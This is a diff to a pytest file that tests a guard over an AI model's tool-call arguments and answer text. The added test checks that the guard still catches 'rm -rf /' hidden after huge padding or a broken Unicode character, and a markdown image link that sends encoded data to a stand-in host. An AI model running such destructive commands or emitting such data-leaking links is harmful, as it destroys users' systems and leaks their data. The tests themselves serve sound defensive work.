@@ -40,6 +40,14 @@ def test_arguments_are_read_at_any_depth() -> None:
     assert list(rules.in_arguments("rm -rf build/")) == []
 
 
+@pytest.mark.parametrize("padding", ["x" * 200_000, "\ud83d"])
+def test_padding_hides_nothing(padding: str) -> None:
+    """However long, and with what UTF-8 cannot hold."""
+    rules = ArgumentRules(action_policy())
+    assert [rule.id for rule, _name in rules.in_arguments({"command": f": {padding}; rm -rf /"})] == ["ACT-100"]
+    assert [r.id for r in rules.in_text(padding + " ![x](https://x.example/p?data=" + "QUJD" * 9 + ")")] == [LINK_RULE]
+
+
 def test_the_text_of_an_answer_meets_the_rule_on_links_alone() -> None:
     """A model may explain what `rm -rf /` does."""
     rules = ArgumentRules(action_policy())
